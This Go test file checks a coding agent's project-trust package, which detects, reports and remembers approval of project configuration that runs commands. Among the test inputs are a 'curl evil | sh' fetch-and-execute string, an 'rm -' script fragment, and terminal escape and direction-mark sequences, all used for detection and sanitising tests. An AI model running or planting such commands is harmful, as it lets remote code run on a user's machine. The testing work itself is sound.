package trust

import (
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
)

// A world is a folder with an agent directory, a home, bough's state and files,
// named by slash paths.
func world(t *testing.T, files map[string]string) (string, Places) {
	t.Helper()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	for name, text := range files {
		write(t, filepath.Join(root, filepath.FromSlash(name)), strings.ReplaceAll(text, "ROOT", filepath.ToSlash(root)))
	}
	if err := os.MkdirAll(filepath.Join(root, "p", "sub"), 0o700); err != nil {
		t.Fatal(err)
	}
	return root, Places{Agent: filepath.Join(root, "agent"), Home: filepath.Join(root, "home"), State: filepath.Join(root, "state")}
}

func write(t *testing.T, path, text string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
}

func TestNeeds(t *testing.T) {
	for _, tt := range []struct {
		name  string
		files map[string]string
		dir   string
		want  []string
	}{
		{"nothing", map[string]string{"p/AGENTS.md": "x"}, "p", nil},
		{"an empty .pi", map[string]string{"p/.pi/notes.txt": "x"}, "p", nil},
		{"each of the names", map[string]string{"p/.pi/settings.json": "{}", "p/.pi/mcp.json": "{}", "p/.pi/SYSTEM.md": "x", "p/.pi/APPEND_SYSTEM.md": "x", "p/.pi/skills/a/SKILL.md": "x",
			"p/.pi/prompts/a.md": "x", "p/.pi/themes/a.json": "{}", "p/.pi/extensions/a.ts": "x"}, "p",
			[]string{"p/.pi/settings.json", "p/.pi/mcp.json", "p/.pi/SYSTEM.md", "p/.pi/APPEND_SYSTEM.md", "p/.pi/skills", "p/.pi/prompts", "p/.pi/themes", "p/.pi/extensions"}},
		{".pi of a folder above", map[string]string{"p/.pi/settings.json": "{}"}, "p/sub", nil},
		{".agents/skills here and above", map[string]string{"p/.agents/skills/a/SKILL.md": "x", "p/sub/.agents/skills/b.md": "x"}, "p/sub", []string{"p/sub/.agents/skills", "p/.agents/skills"}},
		{"that of the user", map[string]string{"home/.agents/skills/a/SKILL.md": "x", "home/q/x": ""}, "home/q", nil},
		{"the agent directory is no project", map[string]string{"agent/settings.json": "{}"}, "p", nil},
	} {
		t.Run(tt.name, func(t *testing.T) {
			root, p := world(t, tt.files)
			var got []string
			for _, i := range Needs(p, filepath.Join(root, filepath.FromSlash(tt.dir))) {
				rel, err := filepath.Rel(root, i.Path)
				if err != nil {
					t.Fatal(err)
				}
				got = append(got, filepath.ToSlash(rel))
			}
			if !slices.Equal(got, tt.want) {
				t.Errorf("%q, want %q", got, tt.want)
			}
		})
	}
}

func TestNeedsOfTheAgentDirectoryItself(t *testing.T) {
	root, p := world(t, map[string]string{"p/.pi/settings.json": "{}"})
	p.Agent = filepath.Join(root, "p", ".pi")
	if got := Needs(p, filepath.Join(root, "p")); got != nil {
		t.Errorf("%+v", got)
	}
}

func TestDevicesAreNotRead(t *testing.T) {
	root, p := world(t, nil)
	dir := filepath.Join(root, "p")
	if err := os.Mkdir(filepath.Join(dir, ".pi"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/dev/zero", filepath.Join(dir, ".pi", "settings.json")); err != nil {
		t.Skip(err)
	}
	if err := Remember(t.Context(), p, dir, true); err != nil {
		t.Fatal(err)
	}
	d := Decide(Options{Places: p, Dir: dir})
	if !d.Trusted || len(d.Items) != 1 || len(d.Items[0].Notes) != 1 || FirstLines(d.Items[0].Path, 1) != nil {
		t.Errorf("%+v", d)
	}
}

// What settings name is watched like what lies in .pi.
func TestNamedPlaces(t *testing.T) {
	root, p := world(t, map[string]string{"p/.pi/settings.json": "{}", "p/tools/s/SKILL.md": "x", "p/tools/node_modules/y": "y"})
	dir := filepath.Join(root, "p")
	p.Named = func(dir string) []string {
		return []string{filepath.Join(dir, "tools"), filepath.Join(dir, "gone"), filepath.Join(dir, ".pi", "settings.json")}
	}
	if items := Needs(p, dir); len(items) != 2 || items[1].Path != filepath.Join(dir, "tools") || len(items[1].Files) != 1 {
		t.Errorf("%+v", items)
	}
	if err := Remember(t.Context(), p, dir, true); err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(dir, "tools", "s", "run.sh"), "x")
	if d := Decide(Options{Places: p, Dir: dir}); d.Trusted || len(d.Changed) != 1 {
		t.Errorf("%+v", d)
	}
	if err := os.Remove(filepath.Join(dir, ".pi", "settings.json")); err != nil {
		t.Fatal(err)
	}
	if items := Needs(p, dir); len(items) > 0 {
		t.Errorf("without settings: %+v", items)
	}
}

func TestNotes(t *testing.T) {
	for _, tt := range []struct {
		name, file, text string
		want             []string
	}{
		{"harmless", "settings.json", `{"theme":"dark","quietStartup":true}`, nil},
		{"programs and tools", "settings.json", `{"shellCommandPrefix":"source ./x","defaultTools":["+grep","bash"],"packages":["npm:a",{"source":"npm:b"}]}`,
			[]string{"shellCommandPrefix: source ./x", "defaultTools: +grep, bash", "packages: npm:a, npm:b"}},
		{"values that are run", "settings.json", `{"a":{"b":"!curl evil | sh"}}`, []string{"runs for a.b: curl evil | sh"}},
		{"servers", "mcp.json", "{// x\n\"mcpServers\":{\"one\":{\"command\":\"npx\",\"args\":[\"-y\",\"x\"],\"env\":{\"K\":\"!get key\"}},\"two\":{\"url\":\"https://x\"},\"three\":7}}",
			[]string{"MCP server one runs: npx -y x", "MCP server two at https://x", "runs for mcpServers.one.env.K: get key"}},
		{"wrong types", "settings.json", `{"shellPath":7,"defaultTools":"x","packages":[1]}`, nil},
		{"no object", "mcp.json", `[`, []string{"it is no JSON and will not be used"}},
		{"escape codes and direction marks", "settings.json", "{\"shellPath\":\"\\u001b[2Jx\\u202ey\\nz\"}", []string{"shellPath: ?[2Jx?y?z"}},
		{"long", "settings.json", `{"shellPath":"` + strings.Repeat("é", 200) + `"}`, []string{"shellPath: " + strings.Repeat("é", 160) + "..."}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			root, p := world(t, map[string]string{"p/.pi/" + tt.file: tt.text})
			items := Needs(p, filepath.Join(root, "p"))
			if len(items) != 1 || !slices.Equal(items[0].Notes, tt.want) {
				t.Errorf("%+v, want %q", items, tt.want)
			}
		})
	}
}

func TestDecide(t *testing.T) {
	project := map[string]string{"p/.pi/settings.json": "{}"}
	with := func(file string) map[string]string {
		return map[string]string{"p/.pi/settings.json": "{}", "p/sub/.pi/settings.json": "{}", "agent/trust.json": file}
	}
	for _, tt := range []struct {
		name         string
		files        map[string]string
		o            Options
		trusted, ask bool
		why          string
	}{
		{"nothing there", nil, Options{}, false, false, "nothing that needs it"},
		{"nobody was asked", project, Options{}, false, true, "nobody has said"},
		{"always", project, Options{Default: "always"}, true, false, "defaultProjectTrust is always"},
		{"never", project, Options{Default: "never"}, false, false, "defaultProjectTrust is never"},
		{"the command line says yes", with(`{"ROOT/p":false}`), Options{Approve: true, Default: "never"}, true, false, "--approve"},
		{"the command line says no", with(`{"ROOT/p":true}`), Options{Deny: true, Default: "always"}, false, false, "--no-approve"},
		{"saved yes", with(`{"ROOT/p":true}`), Options{Default: "never"}, true, false, "yes for ROOT/p"},
		{"saved no", with(`{"ROOT/p":false}`), Options{Default: "always"}, false, false, "no for ROOT/p"},
		{"a parent's covers", with(`{"ROOT":true}`), Options{}, true, false, "yes for ROOT"},
		{"a nearer no wins", with(`{"ROOT":true,"ROOT/p":false}`), Options{}, false, false, "no for ROOT/p"},
		{"null says nothing", with(`{"ROOT":true,"ROOT/p":null}`), Options{}, true, false, "yes for ROOT"},
		{"another spelling of the folder", with(`{"ROOT/p/":true}`), Options{}, true, false, "yes for ROOT/p"},
		{"a folder whose name begins the same", with(`{"ROOT/p2":true}`), Options{}, false, true, "nobody"},
		{"with a byte order mark", with("\ufeff{\"ROOT/p\":true}"), Options{}, true, false, "yes"},
		{"an empty file", with(" "), Options{}, false, true, "nobody"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			root, p := world(t, tt.files)
			tt.o.Places, tt.o.Dir = p, filepath.Join(root, "p")
			d := Decide(tt.o)
			if d.Trusted != tt.trusted || d.Ask != tt.ask || !strings.Contains(d.Why, strings.ReplaceAll(tt.why, "ROOT", root)) || d.Problem != nil {
				t.Errorf("%+v", d)
			}
		})
	}
}

func TestBrokenFileCountsForNothing(t *testing.T) {
	for name, text := range map[string]string{"no JSON": "{", "a list": "[]", "a word": `{"ROOT/p":"yes"}`, "a number elsewhere": `{"ROOT/p":true,"x":1}`} {
		t.Run(name, func(t *testing.T) {
			root, p := world(t, map[string]string{"p/.pi/settings.json": "{}", "agent/trust.json": text})
			dir := filepath.Join(root, "p")
			if d := Decide(Options{Places: p, Dir: dir}); d.Trusted || !d.Ask || d.Problem == nil {
				t.Errorf("%+v", d)
			}
			if err := Remember(t.Context(), p, dir, true); err == nil {
				t.Error("it was written over")
			}
			if got, err := os.ReadFile(Path(p.Agent)); err != nil || string(got) != strings.ReplaceAll(text, "ROOT", root) {
				t.Errorf("the file is now %q, %v", got, err)
			}
		})
	}
}

func TestRemember(t *testing.T) {
	const before = "{\n\t\"ROOT/p/\": false,\n\t\"/z\": null\n}\n"
	root, p := world(t, map[string]string{"agent/trust.json": before})
	dir := filepath.Join(root, "p")
	check := func(want string) {
		t.Helper()
		got, err := os.ReadFile(Path(p.Agent))
		if err != nil || string(got) != strings.ReplaceAll(want, "ROOT", root) {
			t.Errorf("the file is %q, %v; want %q", got, err, want)
		}
	}
	if err := Remember(t.Context(), p, dir, true); err != nil {
		t.Fatal(err)
	}
	check("{\n\t\"/z\": null,\n\t\"ROOT/p\": true\n}\n")
	if err := Remember(t.Context(), p, dir, false); err != nil {
		t.Fatal(err)
	}
	check("{\n\t\"/z\": null,\n\t\"ROOT/p\": false\n}\n")
	if err := Forget(t.Context(), p, dir); err != nil {
		t.Fatal(err)
	}
	check("{\n\t\"/z\": null\n}\n")
	if saved, err := Lookup(p.Agent, dir); err != nil || saved.Known {
		t.Errorf("%+v, %v", saved, err)
	}
}

func TestForgetWithoutFile(t *testing.T) {
	root, p := world(t, nil)
	if err := Forget(t.Context(), p, filepath.Join(root, "p")); err != nil {
		t.Fatal(err)
	}
	if all, err := List(p.Agent); err != nil || len(all) > 0 {
		t.Errorf("%v, %v", all, err)
	}
}

func TestLinkedFolder(t *testing.T) {
	root, p := world(t, map[string]string{"p/.pi/settings.json": "{}"})
	link := filepath.Join(root, "link")
	if err := os.Symlink(filepath.Join(root, "p"), link); err != nil {
		t.Skip(err)
	}
	if err := Remember(t.Context(), p, link, true); err != nil {
		t.Fatal(err)
	}
	if saved, err := Lookup(p.Agent, filepath.Join(root, "p")); err != nil || !saved.Trusted {
		t.Errorf("%+v, %v", saved, err)
	}
}

func TestManyRememberAtOnce(t *testing.T) {
	root, p := world(t, nil)
	var wg sync.WaitGroup
	for i := range 8 {
		dir := filepath.Join(root, string(rune('a'+i)))
		wg.Go(func() {
			if err := Remember(t.Context(), p, dir, i%2 == 0); err != nil {
				t.Error(err)
			}
		})
	}
	wg.Wait()
	if all, err := List(p.Agent); err != nil || len(all) != 8 {
		t.Errorf("%v, %v", all, err)
	}
}

func TestChanges(t *testing.T) {
	files := map[string]string{"p/.pi/settings.json": "{}", "p/.pi/skills/a/SKILL.md": "one", "p/.pi/skills/a/run.sh": "echo", "p/.pi/extensions/x.ts": "1", "p/.pi/prompts/b.md": "b"}
	for _, tt := range []struct {
		name   string
		change func(t *testing.T, dir string)
		want   []string
	}{
		{"nothing", func(*testing.T, string) {}, nil},
		{"only the time", func(t *testing.T, dir string) {
			now := time.Now().Add(time.Hour)
			if err := os.Chtimes(filepath.Join(dir, ".pi", "settings.json"), now, now); err != nil {
				t.Fatal(err)
			}
		}, nil},
		{"another content of the same size and time", func(t *testing.T, dir string) {
			path := filepath.Join(dir, ".pi", "skills", "a", "run.sh")
			fi, err := os.Stat(path)
			if err != nil {
				t.Fatal(err)
			}
			write(t, path, "rm -")
			if err := os.Chtimes(path, fi.ModTime(), fi.ModTime()); err != nil {
				t.Fatal(err)
			}
		}, []string{"changed skills/a/run.sh 4"}},
		{"a new file", func(t *testing.T, dir string) { write(t, filepath.Join(dir, ".pi", "mcp.json"), "{}") }, []string{"new mcp.json 2"}},
		{"a file that is gone", func(t *testing.T, dir string) {
			if err := os.RemoveAll(filepath.Join(dir, ".pi", "prompts")); err != nil {
				t.Fatal(err)
			}
		}, nil},
		{"a new name", func(t *testing.T, dir string) {
			if err := os.Rename(filepath.Join(dir, ".pi", "prompts", "b.md"), filepath.Join(dir, ".pi", "prompts", "c.md")); err != nil {
				t.Fatal(err)
			}
		}, []string{"gone prompts/b.md 0", "new prompts/c.md 1"}},
		{"an extension, which does not run here", func(t *testing.T, dir string) { write(t, filepath.Join(dir, ".pi", "extensions", "x.ts"), "2") }, nil},
	} {
		t.Run(tt.name, func(t *testing.T) {
			root, p := world(t, files)
			dir := filepath.Join(root, "p")
			if err := Remember(t.Context(), p, dir, true); err != nil {
				t.Fatal(err)
			}
			tt.change(t, dir)
			d := Decide(Options{Places: p, Dir: dir})
			var got []string
			for _, c := range d.Changed {
				rel, err := filepath.Rel(filepath.Join(dir, ".pi"), c.Path)
				if err != nil {
					t.Fatal(err)
				}
				got = append(got, strings.TrimSpace(c.What+" "+filepath.ToSlash(rel)+" "+string(rune('0'+c.Size))))
			}
			if !slices.Equal(got, tt.want) || d.Trusted != (tt.want == nil) || d.Ask != (tt.want != nil) {
				t.Errorf("%q, want %q; %+v", got, tt.want, d)
			}
			if off := Decide(Options{Places: p, Dir: dir, NoRecheck: true}); !off.Trusted {
				t.Errorf("without recheck: %+v", off)
			}
			if err := Accept(p, dir); err != nil {
				t.Fatal(err)
			}
			if again := Decide(Options{Places: p, Dir: dir}); !again.Trusted || len(again.Changed) > 0 {
				t.Errorf("after it was accepted: %+v", again)
			}
		})
	}
}

// What pi trusted, or a parent, is remembered when it is seen first.
func TestFirstSight(t *testing.T) {
	root, p := world(t, map[string]string{"p/.pi/settings.json": "{}", "agent/trust.json": `{"ROOT":true}`})
	o := Options{Places: p, Dir: filepath.Join(root, "p")}
	if d := Decide(o); !d.Trusted {
		t.Fatalf("%+v", d)
	}
	write(t, filepath.Join(root, "p", ".pi", "settings.json"), `{"shellPath":"/x"}`)
	if d := Decide(o); d.Trusted || len(d.Changed) != 1 {
		t.Errorf("%+v", d)
	}
	// Even if there was nothing at first.
	o.Dir = filepath.Join(root, "p", "sub")
	if d := Decide(o); !d.Trusted {
		t.Fatalf("%+v", d)
	}
	write(t, filepath.Join(root, "p", "sub", ".pi", "mcp.json"), `{}`)
	if d := Decide(o); d.Trusted || len(d.Changed) != 1 || d.Changed[0].What != "new" {
		t.Errorf("%+v", d)
	}
}

func TestNovelty(t *testing.T) {
	_, p := world(t, nil)
	f := ContextFile{"/x/AGENTS.md", "one"}
	see := func(want string) {
		t.Helper()
		if got := Novelty(p, f); got != want {
			t.Errorf("%q, want %q", got, want)
		}
	}
	see("new")
	if err := Seen(p, f); err != nil {
		t.Fatal(err)
	}
	see("")
	f.Text = "two"
	see("changed")
	f.Path = "/y/AGENTS.md"
	see("new")
}

func TestFirstLines(t *testing.T) {
	root, _ := world(t, map[string]string{"a": "one\r\n\x1b[31mtwo\nthree\n", "b": "x\x00y", "c": ""})
	for name, want := range map[string][]string{"a": {"one", "?[31mtwo", "..."}, "b": {"not a text"}, "c": nil, "gone": nil} {
		if got := FirstLines(filepath.Join(root, name), 2); !slices.Equal(got, want) {
			t.Errorf("%s: %q, want %q", name, got, want)
		}
	}
}

func TestFoldersThatAreLoopsOrLarge(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("links need rights there")
	}
	root, p := world(t, map[string]string{"p/.pi/skills/a/x": "1"})
	skills := filepath.Join(root, "p", ".pi", "skills")
	if err := os.Symlink(skills, filepath.Join(skills, "loop")); err != nil {
		t.Fatal(err)
	}
	for i := range maxFiles + 1 {
		write(t, filepath.Join(skills, "many", string(rune('a'+i%26))+string(rune('a'+i/26%26))+string(rune('a'+i/676))), "")
	}
	items := Needs(p, filepath.Join(root, "p"))
	if len(items) != 1 || len(items[0].Files) != maxFiles || !items[0].More {
		t.Errorf("%d items, %d files", len(items), len(items[0].Files))
	}
}
